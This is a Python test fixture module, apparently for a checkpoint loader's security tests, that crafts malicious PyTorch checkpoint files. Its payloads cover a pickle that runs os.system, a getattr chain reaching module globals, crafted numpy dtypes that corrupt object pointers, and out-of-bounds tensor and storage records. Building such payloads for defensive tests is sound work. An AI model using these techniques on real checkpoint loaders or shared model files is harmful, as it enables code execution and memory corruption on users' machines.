"""Checkpoint files crafted as an attacker would, for the loader tests."""
import collections
import io
import os
import zipfile

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Reduce:
    """Pickles as ``func(*args)`` (then ``__setstate__(state)``)."""

    def __init__(self, func, args, state=None):
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        if self.state is None:
            return self.func, self.args
        return self.func, self.args, self.state


def _reconstruct():
    core = np._core if hasattr(np, '_core') else np.core
    return core.multiarray._reconstruct


def os_system(path: str, marker: str) -> None:
    """A ``__reduce__`` that runs a shell command."""
    torch.save(dict(state_dict={}, x=Reduce(os.system,
                                            (f'touch {marker}',))), path)


def getattr_chain(path: str, marker: str) -> None:
    """getattr from an allowed class to its module globals, then ``os``."""
    method = Reduce(getattr, (HistoryBuffer, 'min'))
    globs = Reduce(getattr, (method, '__globals__'))
    torch.save(dict(state_dict={}, x=globs), path)


def dtype_object_offset(path: str, marker: str) -> None:
    """A dtype whose field puts an object pointer past the item's bytes."""
    evil = Reduce(np.dtype, ('V8', False, True),
                  (3, '|', None, ('a',), {'a': (np.dtype('O'), 4096)}, 8, 1,
                   0x3f))
    array = Reduce(_reconstruct(), (np.ndarray, (0,), b'b'),
                   (1, (1,), evil, False, b'\x00' * 8))
    torch.save(dict(state_dict={}, x=array), path)


def dtype_object_flags(path: str, marker: str) -> None:
    """A float64 dtype flagged as holding object references."""
    evil = Reduce(np.dtype, ('f8', False, True),
                  (3, '<', None, None, None, -1, -1, 0x3f))
    array = Reduce(_reconstruct(), (np.ndarray, (0,), b'b'),
                   (1, (2,), evil, False, b'\x41' * 16))
    torch.save(dict(state_dict={}, x=array), path)


def tensor_past_storage(path: str, marker: str) -> None:
    """A tensor view of a million floats over a storage of four."""
    storage = torch.zeros(4).untyped_storage()
    typed = torch.storage.TypedStorage(wrap_storage=storage,
                                       dtype=torch.float32, _internal=True)
    view = Reduce(torch._utils._rebuild_tensor_v2,
                  (typed, 0, (1000000,), (1,), False,
                   collections.OrderedDict()))
    torch.save(dict(state_dict=dict(w=view)), path)


def storage_record_short(path: str, marker: str) -> None:
    """A storage whose header claims more bytes than its record holds."""
    buffer = io.BytesIO()
    torch.save(dict(state_dict=dict(w=torch.zeros(1000))), buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, \
            zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data/0'):
                data = data[:16]
            dst.writestr(info, data)


PAYLOADS = {
    'os_system': os_system,
    'getattr_chain': getattr_chain,
    'dtype_object_offset': dtype_object_offset,
    'dtype_object_flags': dtype_object_flags,
    'tensor_past_storage': tensor_past_storage,
    'storage_record_short': storage_record_short,
}
